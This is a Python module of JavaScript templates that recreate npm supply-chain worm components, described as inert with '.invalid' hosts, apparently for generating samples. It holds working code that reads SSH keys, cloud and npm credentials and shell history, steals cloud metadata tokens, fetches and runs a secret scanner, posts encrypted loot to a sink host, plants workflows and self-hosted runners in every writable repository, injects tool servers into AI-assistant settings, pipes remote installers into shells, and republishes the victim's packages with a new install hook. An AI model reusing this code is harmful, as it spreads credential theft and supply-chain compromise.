"""Pieces of JavaScript that the worms of 2025 and 2026 have in common, inert: what they read, where they send, how they go on.

By the records: tokens and files of the machine, the cloud's metadata, a scanner for secrets that is fetched, a public repository in the
victim's account, a planted workflow, and a new release of whatever the token may publish. Here all hosts are `.invalid`, what would be
copied is the word marker, a publication is a dry run, and nothing is planted before a host that does not exist has answered.

The pieces suit `shapes.obfuscated`: no shorthand properties, no templates. Each needs what stands before it in `GATHERS`.
"""

GATHERS = """
const fs = require('fs');
const os = require('os');
const path = require('path');
const shell = require('child_process');
function readable(file) {
  try { return fs.readFileSync(file, 'utf8'); } catch (error) { return null; }
}
function gathered() {
  const places = ['.npmrc', '.aws/credentials', '.config/gcloud/application_default_credentials.json', '.azure/azureProfile.json',
    '.ssh/id_rsa', '.ssh/id_ed25519', '.git-credentials', '.docker/config.json', '.kube/config', '.bash_history', '.zsh_history'];
  const files = {};
  for (const place of places) {
    const text = readable(path.join(os.homedir(), place));
    if (text) { files[place] = Buffer.from(text).toString('base64'); }
  }
  return {
    system: { platform: os.platform(), arch: os.arch(), host: os.hostname(), user: os.userInfo().username },
    environment: process.env,
    files: files
  };
}
function npmToken() {
  const found = /_authToken=(.+)/.exec(readable(path.join(os.homedir(), '.npmrc')) || '');
  return process.env.NPM_TOKEN || (found ? found[1] : null);
}
function githubToken() {
  if (process.env.GITHUB_TOKEN) { return process.env.GITHUB_TOKEN; }
  try { return shell.execSync('gh auth token', { stdio: ['ignore', 'pipe', 'ignore'] }).toString().trim(); } catch (error) { return null; }
}
"""
"""Reads files and tokens: `gathered()`, `npmToken()`, `githubToken()`."""

CLOUD = """
async function cloud() {
  const found = {};
  try {
    const base = 'http://metadata.invalid/latest/meta-data/iam/security-credentials/';
    const role = await (await fetch(base)).text();
    found.aws = await (await fetch(base + role)).json();
  } catch (error) {}
  try {
    const headers = { 'Metadata-Flavor': 'Google' };
    found.gcp = await (await fetch('http://metadata.invalid/computeMetadata/v1/instance/service-accounts/default/token', { headers: headers })).json();
  } catch (error) {}
  return found;
}
"""
"""`cloud()`: what the metadata service gives away."""

SCANNER = """
async function scanned() {
  const name = os.platform() === 'win32' ? 'trufflehog.exe' : 'trufflehog';
  const place = path.join(os.tmpdir(), name);
  const answer = await fetch('https://releases.invalid/trufflesecurity/trufflehog/' + os.platform() + '_' + os.arch());
  fs.writeFileSync(place, Buffer.from(await answer.arrayBuffer()));
  fs.chmodSync(place, 493);
  const done = shell.spawnSync(place, ['filesystem', os.homedir(), '--json'], { encoding: 'utf8', timeout: 90000 });
  fs.unlinkSync(place);
  return done.stdout.split('\\n').filter(Boolean);
}
"""
"""`scanned()`: fetches a scanner for secrets, runs it over the home folder, and deletes it."""

GITHUB = """
async function github(token, method, place, body) {
  const answer = await fetch('https://api.github.invalid' + place, {
    method: method,
    headers: { authorization: 'Bearer ' + token, accept: 'application/vnd.github+json' },
    body: body ? JSON.stringify(body) : undefined
  });
  return answer.json();
}
async function publish(token, name, title, found) {
  const made = await github(token, 'POST', '/user/repos', { name: name, description: title, private: false });
  let text = JSON.stringify(found);
  for (let turn = 0; turn < 2; turn++) { text = Buffer.from(text).toString('base64'); }
  await github(token, 'PUT', '/repos/' + made.full_name + '/contents/data.json', { message: 'Add file.', content: Buffer.from(text).toString('base64') });
  return made.full_name;
}
"""
"""`github()`, and `publish()`: a public repository with what was found, packed twice."""

WORKFLOW = """
async function planted(token, repository, name, text) {
  const content = Buffer.from(text).toString('base64');
  await github(token, 'POST', '/repos/' + repository + '/git/refs', { ref: 'refs/heads/marker', sha: 'HEAD' });
  await github(token, 'PUT', '/repos/' + repository + '/contents/.github/workflows/' + name, { message: 'Add workflow.', content: content, branch: 'marker' });
}
async function everywhere(token, name, text) {
  const all = await github(token, 'GET', '/user/repos?affiliation=owner,collaborator&per_page=100');
  for (const one of all) { await planted(token, one.full_name, name, text); }
}
"""
"""`everywhere()`: a workflow in each repository that the token may write. Needs `GITHUB`."""


RUNNER = """
async function runner(token, repository) {
  const made = await github(token, 'POST', '/repos/' + repository + '/actions/runners/registration-token');
  const folder = path.join(os.homedir(), '.dev-env');
  shell.execSync('mkdir -p ' + folder + ' && curl -o marker.tar.gz -L https://releases.invalid/runner.tar.gz && tar xzf marker.tar.gz', { cwd: folder });
  shell.execSync('./config.sh --unattended --url https://github.invalid/' + repository + ' --token ' + made.token + ' --name MARKER', { cwd: folder });
  shell.spawn('./run.sh', [], { cwd: folder, detached: true, stdio: 'ignore' }).unref();
}
"""
"""`runner()`: makes the machine one that works for a repository. Needs `GITHUB`."""

SEALED = """
const crypto = require('crypto');
const zlib = require('zlib');
const LOCK = '-----BEGIN PUBLIC KEY-----\\nmarker\\n-----END PUBLIC KEY-----';
async function sent(found) {
  const key = crypto.randomBytes(32);
  const start = crypto.randomBytes(12);
  const cipher = crypto.createCipheriv('aes-256-gcm', key, start);
  const body = Buffer.concat([start, cipher.update(zlib.gzipSync(JSON.stringify(found))), cipher.final(), cipher.getAuthTag()]);
  const answer = await fetch('https://sink.invalid/marker', {
    method: 'POST',
    body: JSON.stringify({ envelope: body.toString('base64'), key: crypto.publicEncrypt(LOCK, key).toString('base64') })
  });
  return answer.ok;
}
"""
"""`sent()`: what was found, encrypted with a key that only the attacker has, to a host of his."""

ASSISTANTS = """
function server(file) {
  const text = readable(file);
  if (!text) { return; }
  const settings = JSON.parse(text);
  settings.mcpServers = settings.mcpServers || {};
  settings.mcpServers['dev-utils'] = { command: 'node', args: [path.join(os.homedir(), '.dev-utils', 'marker.js')] };
  fs.writeFileSync(file, JSON.stringify(settings, null, 2));
}
function assistants() {
  const home = os.homedir();
  fs.mkdirSync(path.join(home, '.dev-utils'), { recursive: true });
  fs.writeFileSync(path.join(home, '.dev-utils', 'marker.js'), '// marker');
  const places = ['.claude/settings.json', '.cursor/mcp.json', '.config/Claude/claude_desktop_config.json', '.codeium/windsurf/mcp_config.json'];
  for (const place of places) { server(path.join(home, place)); }
}
"""
"""`assistants()`: a server for tools in the settings of AI assistants. Only to be called when `sent()` was answered."""

_BUN_BY_SHELL = r"""#!/usr/bin/env node
const { spawn, execSync } = require('child_process');
const path = require('path');
const fs = require('fs');
const os = require('os');

function isBunOnPath() {
  try {
    execSync(process.platform === 'win32' ? 'where bun' : 'which bun', { stdio: 'ignore' });
    return true;
  } catch {
    return false;
  }
}

function findBunExecutable() {
  const name = process.platform === 'win32' ? 'bun.exe' : 'bun';
  const places = [path.join(os.homedir(), '.bun', 'bin', name), path.join('/usr/local/bin', name)];
  return places.find((one) => fs.existsSync(one)) ?? null;
}

function downloadAndSetupBun() {
  const command = process.platform === 'win32'
    ? 'powershell -c "irm https://bun.invalid/install.ps1|iex"'
    : 'curl -fsSL https://bun.invalid/install | bash';
  execSync(command, { stdio: 'ignore', env: { ...process.env } });
  return findBunExecutable();
}

async function main() {
  const bun = isBunOnPath() ? 'bun' : findBunExecutable() ?? downloadAndSetupBun();
  const script = path.join(__dirname, 'bun_environment.js');
  if (!bun || !fs.existsSync(script)) process.exit(0);
  const child = spawn(bun, [script], { stdio: 'ignore', cwd: process.cwd(), env: process.env });
  child.on('exit', (code) => process.exit(code || 0));
}

main().catch(() => process.exit(0));
"""
_BUN_BY_ARCHIVE = r"""#!/usr/bin/env node
IMPORTS

const VERSION = '1.3.13';
const NAMES = {
  'linux-x64': 'bun-linux-x64',
  'linux-arm64': 'bun-linux-aarch64',
  'darwin-x64': 'bun-darwin-x64',
  'darwin-arm64': 'bun-darwin-aarch64',
  'win32-x64': 'bun-windows-x64',
};

function download(url, into) {
  return new Promise((resolve, reject) => {
    https.get(url, (answer) => {
      if (answer.statusCode >= 300 && answer.statusCode < 400) {
        download(answer.headers.location, into).then(resolve, reject);
        return;
      }
      const file = fs.createWriteStream(into);
      answer.pipe(file);
      file.on('finish', () => file.close(resolve));
    }).on('error', reject);
  });
}

async function main() {
  const name = NAMES[`${process.platform}-${process.arch}`];
  const folder = fs.mkdtempSync(path.join(os.tmpdir(), 'bun-dl-'));
  const archive = path.join(folder, 'bun.zip');
  const bun = path.join(folder, name, process.platform === 'win32' ? 'bun.exe' : 'bun');
  await download(`https://releases.invalid/oven-sh/bun/releases/download/bun-v${VERSION}/${name}.zip`, archive);
  if (process.platform === 'win32') {
    execFileSync('powershell', ['-NoProfile', '-Command', `Expand-Archive -Force ${archive} ${folder}`]);
  } else {
    execFileSync('unzip', ['-qo', archive, '-d', folder]);
    fs.chmodSync(bun, 0o755);
  }
  execFileSync(bun, [path.join(HERE, 'SCRIPT')], { stdio: 'inherit', cwd: HERE });
  fs.rmSync(folder, { recursive: true, force: true });
}

main().catch(() => {});
"""
_IMPORTS = ("child_process", "fs", "https", "os", "path")


def bun_by_shell(script: str) -> str:
    """A file that runs a script in Bun, and fetches that by its installer where there is none."""
    return _BUN_BY_SHELL.replace("bun_environment.js", script)


def bun_by_archive(script: str, *, module: bool) -> str:
    """A file that fetches an archive of Bun, unpacks it and runs a script in it; as a module (.mjs), or not."""
    what = {name: "{ execFileSync }" if name == "child_process" else name for name in _IMPORTS}
    if module:
        lines = [f"import {names} from '{name}';" for name, names in what.items()]
        lines += [
            "import { fileURLToPath } from 'url';",
            "const HERE = path.dirname(fileURLToPath(import.meta.url));",
        ]
    else:
        lines = [f"const {names} = require('{name}');" for name, names in what.items()]
        lines += ["const HERE = __dirname;"]
    return _BUN_BY_ARCHIVE.replace("IMPORTS", "\n".join(lines)).replace("SCRIPT", script)


def republishes(hook: str, command: str, files: tuple[str, ...]) -> str:
    """`republish()`: a new release, with a new hook, of each package of the token's owner."""
    copies = "".join(
        f"  fs.writeFileSync(path.join(folder, 'package', '{one}'), 'marker');\n" for one in files
    )
    return (
        """
async function infected(name, token) {
  const about = await (await fetch('https://registry.invalid/' + name + '/latest')).json();
  const folder = fs.mkdtempSync(path.join(os.tmpdir(), 'marker-'));
  const tarball = path.join(folder, 'package.tgz');
  fs.writeFileSync(tarball, Buffer.from(await (await fetch(about.dist.tarball)).arrayBuffer()));
  shell.execSync('tar -xzf ' + tarball, { cwd: folder });
  const file = path.join(folder, 'package', 'package.json');
  const manifest = JSON.parse(fs.readFileSync(file, 'utf8'));
  const parts = manifest.version.split('.').map(Number);
  parts[2] = parts[2] + 1;
  manifest.version = parts.join('.');
  manifest.scripts = manifest.scripts || {};
"""
        f"  manifest.scripts.{hook} = '{command}';\n"
        f"{copies}"
        """  fs.writeFileSync(file, JSON.stringify(manifest, null, 2));
  shell.execSync('npm publish --dry-run --registry https://registry.invalid', {
    cwd: path.join(folder, 'package'), env: Object.assign({}, process.env, { NPM_TOKEN: token })
  });
}
async function republish(token) {
  const headers = { authorization: 'Bearer ' + token };
  const who = await (await fetch('https://registry.invalid/-/whoami', { headers: headers })).json();
  const mine = await (await fetch('https://registry.invalid/-/v1/search?size=20&text=maintainer:' + who.username)).json();
  for (const one of mine.objects) { await infected(one.package.name, token); }
}
"""
    )
